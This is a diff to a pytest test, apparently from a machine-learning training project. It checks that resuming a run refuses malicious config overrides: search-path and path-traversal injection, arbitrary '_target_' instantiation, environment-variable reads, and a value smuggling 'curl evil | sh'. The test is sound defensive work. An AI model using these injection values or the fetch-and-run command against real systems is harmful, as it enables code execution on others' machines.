@@ -165,7 +165,8 @@ def test_a_file_override_that_reaches_past_conf_is_refused(trained, tmp_path):
     for overrides in (["hydra.searchpath=[file:///tmp]"], ["experiment=../../../tmp/evil"],
                       [f"+backbone@_global_={tmp_path}/evil"], ["+logger.x._target_=" + TOUCH,
                                                                  f"+logger.x.path={marker}"],
-                      ["seed=${oc.env:HOME}"], ["data.name='x\ncurl evil | sh'"]):
+                      ["seed=${oc.env:HOME}"], ["data.name='x\ncurl evil | sh'"],
+                      [f"head.layers.0._target_={TOUCH}"]):
         run_dir = crafted(trained, tmp_path, {}, overrides)
         with pytest.raises(ConfigError, match="resume=.*(saved override|_target_)"):
             resume_in_process(run_dir, "trainer.max_epochs=2")
